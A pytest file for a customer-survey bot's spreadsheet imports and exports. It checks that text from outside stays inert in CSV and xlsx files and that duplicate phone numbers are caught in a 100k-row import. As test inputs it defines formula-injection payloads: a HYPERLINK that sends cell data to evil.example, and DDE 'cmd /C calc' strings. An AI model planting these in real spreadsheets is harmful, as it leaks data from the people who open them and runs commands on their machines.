"""Hostile content in and out of spreadsheets: text from outside never becomes a live formula in Excel or WPS,
and a customer list whose rows collide never merges two people.

Every file here is written by the product's real writers and read back with openpyxl (formulas kept, not
evaluated) and the csv module.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.app import Container, build
from bot.domain.clock import FixedClock
from bot.domain.people import Role
from bot.services.call_sheet import export_calls
from bot.services.importing import import_customers, import_staff
from bot.services.links import export_links
from bot.services.surveys import create_survey
from bot.settings import Settings
from storage.models import Customer
from tests.integration.test_reports import Seed, at
from tests.tables import HEADERS, write_csv

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'
HOSTILE = [LEAK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SHORT_LEAK = '=HYPERLINK("http://e.vil/?"&A1,"详情")'  # fits a name (at most 50 characters)
NAMES = [SHORT_LEAK, *HOSTILE[1:]]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ROOT = Path(__file__).resolve().parents[2]


def _plain_number(text: str) -> bool:
    try:
        float(text.rstrip("%"))
    except ValueError:
        return False
    return True


def csv_cells(path: Path, encoding: str = "utf-8-sig") -> list[str]:
    with path.open(encoding=encoding, newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def assert_csv_inert(path: Path) -> list[str]:
    """No cell of the CSV would start a formula when Excel or WPS opens it; returns the cells."""
    cells = csv_cells(path)
    live = [c for c in cells if c.startswith(FORMULA_START) and not _plain_number(c)]
    assert live == [], f"cells a spreadsheet would run in {path.name}"
    return cells


def assert_xlsx_inert(path: Path) -> list[object]:
    """No cell of any sheet is a formula; returns every cell value."""
    book = load_workbook(path)  # data_only=False: a formula cell comes back with data_type "f"
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], f"formula cells in {path.name}"
    return [c.value for c in cells]


def _write_text_xlsx(path: Path, rows: list[list[str]]) -> None:
    """An xlsx whose cells are text, as Excel saves what a person typed after a leading apostrophe."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            sheet.cell(r, c, value).data_type = "s"
    book.save(path)


@pytest.fixture
def hostile_app(database_url: str, clock: FixedClock) -> Iterator[Container]:
    settings = Settings(
        database_url=database_url,
        store_name="惠州江铃4S店",
        link_secret="test-secret-0123456789abcdef",  # type: ignore[arg-type]
    )
    container = build(settings, clock=clock)
    yield container
    container.close()


def _seed_hostile_customers(app: Container, channel: str) -> None:
    """One customer per hostile name, each with a survey waiting (phone: due for a call today)."""
    now = app.clock.now()
    with app.uow() as uow:
        store = uow.stores.add("惠州江铃4S店", "Asia/Shanghai", now)
        uow.staff.add(store, "周芳", Role.CS_SPECIALIST, None, True, now)
        owner = uow.staff.add(store, SHORT_LEAK, Role.SALES_CONSULTANT, None, True, now)
        for index, name in enumerate(NAMES):
            customer = Customer(
                store_id=store,
                name=name,
                honorific="先生",
                phone=f"+861380013{index:04d}",
                status="defeated",
                owner_staff_id=owner,
                created_at=now,
                updated_at=now,
            )
            uow.session.add(customer)
            uow.flush()
            survey = create_survey(uow, app.survey_kit(), customer.id, "defeat", "defeat", channel)
            survey.due_at = now - timedelta(hours=1)
        uow.commit()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_customers_formula_typed_as_a_free_text_reason_arrives_in_the_report_as_text(
    app: Container, database_url: str, tmp_path: Path, fmt: str
) -> None:
    seed = Seed(app)
    seed.reason("price_value", at(2026, 11, 18))
    seed.reason("price_value", at(2026, 11, 10))  # last week all 价格: this week's share falls (a negative change)
    for text in HOSTILE:
        other = seed.reason("other", at(2026, 11, 20))
        seed.answer(other, "q2_other", "", at(2026, 11, 20, 12, 1), text=text)
    seed.commit()
    target = tmp_path / f"report.{fmt}"

    done = subprocess.run(
        [sys.executable, "-m", "bot", "--database-url", database_url, "report", "--week", "2026-W47",
         "--format", fmt, "--out", str(target)],
        capture_output=True, text=True, cwd=tmp_path, timeout=60,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )  # fmt: skip

    assert done.returncode == 0, done.stderr
    if fmt == "csv":
        cells = assert_csv_inert(target)
        assert "'" + LEAK in cells  # what the customer typed, readable, inert
        assert any(c.startswith("-") and _plain_number(c) for c in cells)  # the report's own negative changes
    else:
        values = assert_xlsx_inert(target)
        assert LEAK in values


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_names_in_a_customer_list_come_back_inert_in_the_rejects_file(
    app: Container, tmp_path: Path, suffix: str
) -> None:
    rows = [[name, "先生", "12345", "惠城区"] for name in HOSTILE]  # each rejected: bad phone
    source = tmp_path / f"客户{suffix}"
    if suffix == ".csv":
        write_csv(source, rows, headers=["姓名", "称呼", "手机", "区域"])
    else:
        _write_text_xlsx(source, [["姓名", "称呼", "手机", "区域"], *rows])

    summary = import_customers(app.uow, source, app.import_options(None, False), app.clock)

    assert summary.rejected == len(HOSTILE)
    rejects = Path(summary.rejects_path or "")
    if suffix == ".csv":
        cells = assert_csv_inert(rejects)
        assert "'" + LEAK in cells
    else:
        assert LEAK in assert_xlsx_inert(rejects)


def test_a_rejects_file_sent_back_after_fixing_imports_the_names_as_typed(app: Container, tmp_path: Path) -> None:
    short = SHORT_LEAK
    rows = [[short, "先生", "12345", "惠城区"], ["王建国", "先生", "+86-138-0013-8000", "=惠城区"]]
    first = import_customers(
        app.uow, write_csv(tmp_path / "a.csv", rows, headers=["姓名", "称呼", "手机", "区域"]),
        app.import_options(None, False), app.clock,
    )  # fmt: skip
    assert first.created == 1 and first.rejected == 1
    fixed = tmp_path / "fixed.csv"
    content = Path(first.rejects_path or "").read_text(encoding="utf-8-sig").replace("12345", "13900139000")
    fixed.write_text(content, encoding="utf-8-sig")

    second = import_customers(app.uow, fixed, app.import_options(None, False), app.clock)

    assert second.created == 1
    with app.uow() as uow:
        names = sorted(c.name for c in uow.session.query(Customer))
    assert names == sorted([short, "王建国"])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_sms_link_export_writes_formula_names_as_text(hostile_app: Container, tmp_path: Path, suffix: str) -> None:
    _seed_hostile_customers(hostile_app, "chat")
    target = tmp_path / f"links{suffix}"

    count = export_links(hostile_app.uow, hostile_app.link_issuer("huifang_bot"), target, hostile_app.clock)

    assert count == len(NAMES)
    if suffix == ".csv":
        assert "'" + SHORT_LEAK in assert_csv_inert(target)
    else:
        assert SHORT_LEAK in assert_xlsx_inert(target)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_call_sheet_writes_formula_names_as_text(hostile_app: Container, tmp_path: Path, suffix: str) -> None:
    _seed_hostile_customers(hostile_app, "phone")
    target = tmp_path / f"calls{suffix}"

    with hostile_app.uow() as uow:
        store_id = uow.stores.id_by_name("惠州江铃4S店")
        assert store_id is not None
        count = export_calls(
            uow, hostile_app.survey_kit(), hostile_app.phone_settings(), store_id, target, hostile_app.clock
        )

    assert count == len(NAMES)
    if suffix == ".csv":
        assert "'" + SHORT_LEAK in assert_csv_inert(target)
    else:
        assert SHORT_LEAK in assert_xlsx_inert(target)


def test_staff_rejects_keep_formula_names_inert(app: Container, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "员工.csv", [[name, "厨师"] for name in HOSTILE], headers=["姓名", "岗位"])

    summary = import_staff(app.uow, source, app.import_options(None, False), app.clock)

    assert summary.rejected == len(HOSTILE)
    assert "'" + LEAK in assert_csv_inert(Path(summary.rejects_path or ""))


def test_headers_in_a_hostile_file_stay_inert_in_its_rejects_file(app: Container, tmp_path: Path) -> None:
    headers = [*HEADERS, "=cmd|' /C calc'!A0"]
    source = write_csv(tmp_path / "a.csv", [["钱多多", "先生", "12345", *[""] * 12, "x"]], headers=headers)

    summary = import_customers(app.uow, source, app.import_options(None, False), app.clock)

    assert summary.rejected == 1
    assert_csv_inert(Path(summary.rejects_path or ""))


def _customer_list(path: Path, rows: int) -> Path:
    """张三 on the first row, 李四 with the same number written differently on the last, unique rows between."""
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["姓名", "手机", "区域"])
        writer.writerow(["张三", "138 0013 8000", "惠城区"])
        writer.writerows([f"客户{i}", f"139{i:08d}", "惠城区"] for i in range(rows - 2))
        writer.writerow(["李四", "+86-138-0013-8000", "惠城区"])
    return path


def _import_peak_kib(database_url: str, path: Path) -> tuple[subprocess.CompletedProcess[str], int]:
    """Run `huifang import customers` as its own process; its output and its peak resident memory (KiB)."""
    wrapper = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "sys.stdout.write(done.stdout)\n"
        "sys.stderr.write(done.stderr)\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\n"
        "sys.exit(done.returncode)\n"
    )
    command = [sys.executable, "-m", "bot", "--database-url", database_url, "import", "customers", str(path)]
    done = subprocess.run(
        [sys.executable, "-c", wrapper, *command],
        capture_output=True,
        text=True,
        cwd=path.parent,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(ROOT), "HUIFANG_STORE_NAME": "惠州江铃4S店"},
    )
    *_, peak = done.stderr.strip().splitlines()
    return done, int(peak)


def test_a_100k_row_list_catches_a_phone_repeated_on_its_last_row_in_flat_memory(
    database_url: str, tmp_path: Path
) -> None:
    small, small_peak = _import_peak_kib(database_url, _customer_list(tmp_path / "small.csv", 10_000))
    assert small.returncode == 0, small.stderr
    big_path = _customer_list(tmp_path / "big.csv", 100_000)

    big, big_peak = _import_peak_kib(database_url, big_path)

    assert big.returncode == 0, big.stderr
    assert "共 100000 行：新建 90000，更新 0，未变 9999，拒绝 1" in big.stdout  # the small file held the first rows
    with (tmp_path / "big.rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
        (reject,) = list(csv.DictReader(handle))
    assert (reject["姓名"], reject["行号"], reject["拒绝原因"]) == ("李四", "100001", "手机：与第2行手机号重复")
    # Ten times the rows, (nearly) the same memory: the rows seen so far are not held in memory.
    assert big_peak - small_peak < 16 * 1024, (small_peak, big_peak)
